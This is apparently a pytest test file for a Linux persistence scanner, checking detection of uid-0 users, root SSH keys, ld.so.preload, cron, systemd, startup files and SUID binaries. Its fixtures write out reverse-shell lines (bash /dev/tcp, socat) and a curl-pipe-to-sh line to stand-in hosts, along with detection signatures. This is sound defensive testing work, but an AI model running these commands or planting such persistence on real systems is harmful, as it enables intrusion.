import os

import pytest

from hostdefend.models import Category, Severity
from hostdefend.persistence import PersistenceScanner, privileged_users
from hostdefend.whitelist import Whitelist

from tests.utils.fakes import FakeProbe


@pytest.fixture
def scanner(fake_root, probe):
    return PersistenceScanner(ignore_users=Whitelist.of(["root"]), probe=probe, root=str(fake_root))


def by_cat(findings, cat):
    return [f for f in findings if f.category is cat]


def test_privileged_user_respects_whitelist():
    line = ["mallory:x:0:0::/home/mallory:/bin/bash"]
    assert privileged_users(line, Whitelist()) == ["mallory"]
    assert privileged_users(line, Whitelist.of(["mallory"])) == []


def test_users_vector_flags_uid0(fake_root, scanner):
    with open(fake_root / "etc" / "passwd", "a") as f:
        f.write("mallory:x:0:0::/home/mallory:/bin/bash\nbroken-line\n")
    found = by_cat(scanner.check_users(), Category.PRIVILEGED_USER)
    assert [f.subject for f in found] == ["mallory"]
    assert found[0].severity is Severity.CRITICAL
    assert found[0].remediable


def test_root_authorized_keys(fake_root, scanner):
    keys = fake_root / "root" / ".ssh" / "authorized_keys"
    keys.write_text("")
    assert by_cat(scanner.check_users(), Category.ROOT_AUTHORIZED_KEY) == []
    keys.write_text("ssh-ed25519 AAAA attacker@box\n")
    found = by_cat(scanner.check_users(), Category.ROOT_AUTHORIZED_KEY)
    assert len(found) == 1
    assert found[0].subject == str(keys)


def test_unreadable_passwd_only_aborts_users_vector(fake_root, scanner):
    os.remove(fake_root / "etc" / "passwd")
    (fake_root / "root" / ".ssh" / "authorized_keys").write_text("ssh-ed25519 AAAA x\n")
    (fake_root / "etc" / "ld.so.preload").write_text("")
    assert scanner.check_users() == []
    findings = scanner.scan_all()
    assert by_cat(findings, Category.PRIVILEGED_USER) == []
    assert by_cat(findings, Category.ROOT_AUTHORIZED_KEY) == []
    assert len(by_cat(findings, Category.LD_PRELOAD)) == 1


@pytest.mark.parametrize("body", ["", "/usr/lib/libevil.so\n"])
def test_preload_presence_is_one_finding(fake_root, scanner, body):
    (fake_root / "etc" / "ld.so.preload").write_text(body)
    found = scanner.check_preload()
    assert len(found) == 1
    assert found[0].category is Category.LD_PRELOAD
    assert found[0].severity is Severity.CRITICAL
    assert found[0].detail == body


def test_preload_absent(scanner):
    assert scanner.check_preload() == []


def test_cron_lists_files_and_flags_content(fake_root, scanner):
    (fake_root / "etc" / "cron.d" / "backup").write_text("0 2 * * * root /usr/local/bin/backup\n")
    (fake_root / "etc" / "cron.d" / "beacon").write_text("* * * * * root bash -i >& /dev/tcp/1.2.3.4/4444 0>&1\n")
    (fake_root / "etc" / "cron.d" / "subdir").mkdir()
    (fake_root / "etc" / "crontab").write_text("SHELL=/bin/sh\n")

    findings = scanner.check_cron()
    entries = sorted(os.path.basename(f.subject) for f in by_cat(findings, Category.CRON_ENTRY))
    assert entries == ["backup", "beacon", "crontab"]

    bad = by_cat(findings, Category.SUSPICIOUS_CONTENT)
    assert len(bad) == 1
    assert bad[0].subject.endswith("beacon")
    assert bad[0].signatures == ["bash -i", "dev/tcp"]
    assert bad[0].severity is Severity.CRITICAL


def test_missing_cron_dirs_are_skipped(tmp_path, probe):
    empty = PersistenceScanner(probe=probe, root=str(tmp_path / "nothing"))
    assert empty.check_cron() == []
    assert empty.check_systemd() == []
    assert empty.check_startup() == []


def test_systemd_units_reported_only(fake_root, scanner):
    unit_dir = fake_root / "etc" / "systemd" / "system"
    for name in ("backdoor.service", "nightly.timer", "multi-user.target.wants", "README"):
        (unit_dir / name).write_text("")
    found = scanner.check_systemd()
    assert sorted(os.path.basename(f.subject) for f in found) == ["backdoor.service", "nightly.timer"]
    assert all(f.severity is Severity.INFO and not f.remediable for f in found)


def test_startup_files(fake_root, scanner):
    (fake_root / "root" / ".bashrc").write_text("alias ll='ls -l'\ncurl -s http://c2/x | sh\n")
    found = scanner.check_startup()
    assert [f.signatures for f in found] == [["curl"]]


def test_extra_signatures(fake_root, probe):
    (fake_root / "root" / ".profile").write_text("socat exec:/bin/sh tcp:1.2.3.4:9001\n")
    s = PersistenceScanner(signatures=["socat"], probe=probe, root=str(fake_root))
    assert [f.signatures for f in s.check_startup()] == [["socat"]]


def test_suid_reported_verbatim(fake_root):
    probe = FakeProbe(suid=["/usr/bin/passwd", "/usr/bin/sudo"])
    s = PersistenceScanner(probe=probe, root=str(fake_root))
    found = s.check_suid()
    assert [f.subject for f in found] == ["/usr/bin/passwd", "/usr/bin/sudo"]
    assert probe.suid_calls == [[str(fake_root / "bin"), str(fake_root / "usr" / "bin")]]


def test_suid_probe_unavailable(fake_root):
    s = PersistenceScanner(probe=FakeProbe(suid=None), root=str(fake_root))
    assert s.check_suid() == []
